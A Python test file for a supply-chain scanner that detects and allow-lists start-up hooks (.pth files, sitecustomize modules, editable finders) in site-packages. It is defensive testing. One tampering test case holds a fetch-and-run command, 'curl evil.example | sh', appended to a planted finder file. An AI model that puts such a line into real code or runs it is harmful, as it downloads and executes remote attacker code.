"""Start-up hooks: found by reading files, judged against the allow-list.

Hooks are planted in temporary site-packages directories; nothing planted
here is ever executed (a payload that ran would create its marker file).
"""

from __future__ import annotations

import hashlib
import os
import shutil
from pathlib import Path
from typing import Any

import pytest

from gateway_cli.supply import installed, startup_hooks
from gateway_cli.supply.startup_hooks import AllowedHook, Hook, Verdict

ROOT = Path(__file__).resolve().parents[3]
DEV_SITE = next((ROOT / ".venv" / "lib").glob("python3.*/site-packages"), None)


@pytest.fixture
def site(tmp_path: Path) -> Path:
    path = tmp_path / "site-packages"
    path.mkdir()
    return path


def _payload(marker: Path) -> str:
    return f"import os; open({str(marker)!r}, 'w').write('ran')\n"


def _one(hooks: list[Hook]) -> Hook:
    assert len(hooks) == 1, hooks
    return hooks[0]


def test_pth_with_import_line_is_an_executing_hook(site: Path, tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    (site / "litellm_init.pth").write_text("# comment\n" + _payload(marker))
    hook = _one(startup_hooks.find_hooks([site]))
    assert hook.kind == "pth-import"
    assert hook.detail.startswith("executes: import os; open(")
    assert hook.imports == ("os",)
    assert hook.sha256 == hashlib.sha256((site / "litellm_init.pth").read_bytes()).hexdigest()
    assert not marker.exists()


def test_only_lines_site_py_executes_count_as_imports(site: Path) -> None:
    (site / "paths.pth").write_text("  import os\nimportant_dir\n#import x\n\n")
    hook = _one(startup_hooks.find_hooks([site]))
    assert hook.kind == "pth-path"
    assert hook.detail == "adds to sys.path:   import os, important_dir"


def test_imported_modules_are_parsed_not_run() -> None:
    line = ("import a.b, c; from d.e import f; __import__('g').h(); "
            "importlib.import_module('i.j')")
    assert sorted(startup_hooks._imported_modules(line)) == ["a", "c", "d", "g", "i"]
    assert startup_hooks._imported_modules("import (((") == ()


@pytest.mark.parametrize("name", ["sitecustomize.py", "usercustomize.py", "sitecustomize.pyc",
                                  "sitecustomize.cpython-311-x86_64-linux-gnu.so",
                                  "__pycache__/sitecustomize.cpython-311.pyc",
                                  "sitecustomize/__init__.py"])
def test_customize_modules_in_any_form(site: Path, name: str) -> None:
    path = site / name
    path.parent.mkdir(exist_ok=True)
    path.write_text("print('ran')\n")
    hook = _one(startup_hooks.find_hooks([site]))
    expected = site / "sitecustomize" if name.startswith("sitecustomize/") else path
    assert (hook.kind, hook.path) == ("customize", expected)
    assert hook.sha256 == hashlib.sha256(b"print('ran')\n").hexdigest()


def test_customize_in_a_directory_a_pth_adds_or_on_the_interpreter_path(site: Path,
                                                                       tmp_path: Path) -> None:
    extra = tmp_path / "extra"
    extra.mkdir()
    (extra / "sitecustomize.py").write_text("")
    (site / "extra.pth").write_text(str(extra) + "\n")
    stdlib = tmp_path / "stdlib"
    stdlib.mkdir()
    (stdlib / "usercustomize.py").write_text("")
    hooks = startup_hooks.find_hooks([site], interpreter_path=[stdlib, tmp_path / "missing"])
    assert [(h.kind, h.path) for h in hooks] == [
        ("pth-path", site / "extra.pth"),
        ("customize", extra / "sitecustomize.py"),
        ("customize", stdlib / "usercustomize.py")]
    verdicts = startup_hooks.judge(hooks, {}, [site])
    assert "outside site-packages" in verdicts[1].reason


def test_system_site_packages_is_a_hook(tmp_path: Path, site: Path) -> None:
    cfg = tmp_path / "pyvenv.cfg"
    cfg.write_text("home = /usr/bin\ninclude-system-site-packages = false\n")
    assert startup_hooks.find_hooks([site], pyvenv_cfg=cfg) == []
    cfg.write_text("home = /usr/bin\ninclude-system-site-packages = TRUE\n")
    assert _one(startup_hooks.find_hooks([site], pyvenv_cfg=cfg)).kind == "system-site-packages"


def test_a_fifo_pth_does_not_hang_the_scan(site: Path) -> None:
    os.mkfifo(site / "trap.pth")
    hook = _one(startup_hooks.find_hooks([site]))
    assert hook.kind == "pth-import" and "not a regular file" in hook.detail


# --- judging against the allow-list -------------------------------------------------------------

DISTUTILS = ("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, "
             "'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n")


def _judge(site: Path, owners: dict[str, str]) -> list[Verdict]:
    full = {os.path.normpath(site / rel): owner for rel, owner in owners.items()}
    return startup_hooks.judge(startup_hooks.find_hooks([site]), full, [site])


def _setuptools_site(site: Path) -> None:
    (site / "distutils-precedence.pth").write_text(DISTUTILS)
    (site / "_distutils_hack").mkdir()
    (site / "_distutils_hack" / "__init__.py").write_text("def add_shim(): pass\n")


def test_setuptools_hook_is_allowed_when_setuptools_installed_it(site: Path) -> None:
    _setuptools_site(site)
    verdicts = _judge(site, {"distutils-precedence.pth": "setuptools",
                             "_distutils_hack/__init__.py": "setuptools"})
    assert [(v.hook.kind, v.hook.path.name, v.rule is not None) for v in verdicts] == [
        ("pth-import", "distutils-precedence.pth", True),
        ("pth-module", "__init__.py", True)]


def test_allowed_name_with_other_content_or_owner_is_refused(site: Path) -> None:
    _setuptools_site(site)
    (site / "distutils-precedence.pth").write_text(DISTUTILS + "import evil\n")
    [verdict] = _judge(site, {"distutils-precedence.pth": "setuptools"})
    assert verdict.rule is None and "is not the allowed one" in verdict.reason
    (site / "distutils-precedence.pth").write_text(DISTUTILS)
    [verdict] = _judge(site, {"distutils-precedence.pth": "litellm"})
    assert verdict.rule is None
    assert verdict.reason == ("the allow-list expects it from setuptools, but it was "
                              "installed by litellm")
    [verdict] = _judge(site, {})
    assert "no RECORD lists it" in verdict.reason


def test_module_imported_by_an_allowed_pth_must_be_allowed_too(site: Path) -> None:
    _setuptools_site(site)
    verdicts = _judge(site, {"distutils-precedence.pth": "setuptools"})
    assert verdicts[1].hook.kind == "pth-module" and verdicts[1].rule is None
    assert "imported at every start by distutils-precedence.pth" in verdicts[1].hook.detail


def _finder(checkout: str = "/home/dev/gateway", version: str = "0.1.0") -> str:
    """What `pip install -e .` writes, from the locked setuptools' own template."""
    from setuptools.command.editable_wheel import _finder_template

    return _finder_template(f"__editable__.gateway-{version}.finder",
                            {"gateway_cli": f"{checkout}/gateway_cli"}, {})


def test_editable_finder_is_allowed_only_in_its_exact_form(site: Path) -> None:
    pth = site / "__editable__.gateway-0.1.0.pth"
    finder = site / "__editable___gateway_0_1_0_finder.py"
    finder.write_text(_finder())
    owners = {pth.name: "gateway", finder.name: "gateway"}
    pth.write_text("import __editable___gateway_0_1_0_finder; "
                   "__editable___gateway_0_1_0_finder.install()")
    assert [v.rule is not None for v in _judge(site, owners)] == [True, True]
    finder.write_text(_finder("/srv/other checkout", "2.3.4"))  # any path, any version
    assert [v.rule is not None for v in _judge(site, owners)] == [True, True]
    pth.write_text("import __editable___gateway_0_1_0_finder; "
                   "__editable___gateway_0_1_0_finder.install(); import os")
    [verdict] = _judge(site, owners)
    assert verdict.rule is None and "does not match the allowed pattern" in verdict.reason


@pytest.mark.parametrize("change", [
    lambda text: text + "\nimport os; os.system('curl evil.example | sh')\n",  # appended
    lambda text: text.replace("def install():", "import os\ndef install():"),
    lambda text: text.replace("'gateway_cli': ", "'gateway_cli': '/tmp/x', 'requests': "),
    lambda text: text + "\nMAPPING: dict[str, str] = {'gateway_cli': '/tmp/evil/gateway_cli'}\n",
    lambda text: "MAPPING = {}\ndef install(): pass\n",
])
def test_an_editable_finder_with_code_added_is_refused(site: Path, change: Any) -> None:
    """The attack: edit the finder the allowed .pth imports and rewrite its RECORD hash;
    ownership alone would vouch for it."""
    pth = site / "__editable__.gateway-0.1.0.pth"
    finder = site / "__editable___gateway_0_1_0_finder.py"
    pth.write_text("import __editable___gateway_0_1_0_finder; "
                   "__editable___gateway_0_1_0_finder.install()")
    finder.write_text(change(_finder()))
    verdicts = _judge(site, {pth.name: "gateway", finder.name: "gateway"})
    assert verdicts[0].rule is not None and verdicts[1].rule is None
    assert "not what the locked setuptools generates" in verdicts[1].reason


def test_unknown_hook_is_not_on_the_allow_list(site: Path, tmp_path: Path) -> None:
    (site / "litellm_init.pth").write_text(_payload(tmp_path / "marker"))
    [verdict] = _judge(site, {"litellm_init.pth": "litellm"})
    assert verdict.rule is None and verdict.reason == "it is not on the start-up hook allow-list"


def test_allow_list_entries_are_complete() -> None:
    for rule in startup_hooks.ALLOWED:
        assert isinstance(rule, AllowedHook) and rule.owner and len(rule.why) > 40
        assert all(len(h) == 64 for h in rule.sha256)


@pytest.mark.skipif(DEV_SITE is None, reason="no dev venv at .venv")
def test_the_dev_venv_has_only_allowed_hooks(tmp_path: Path) -> None:
    assert DEV_SITE is not None
    dists, _ = installed.find_distributions([DEV_SITE])
    hooks = startup_hooks.find_hooks([DEV_SITE])
    verdicts = startup_hooks.judge(hooks, installed.listed_paths(dists), [DEV_SITE])
    assert [(v.hook.path.name, v.reason) for v in verdicts if v.rule is None] == []
    names = {v.hook.path.name for v in verdicts}
    assert "distutils-precedence.pth" in names
    # the real setuptools file is the one pinned by sha256
    real = (DEV_SITE / "distutils-precedence.pth").read_bytes()
    assert hashlib.sha256(real).hexdigest() in startup_hooks.ALLOWED[0].sha256
    assert DISTUTILS.encode() == real
    shutil.rmtree(tmp_path, ignore_errors=True)
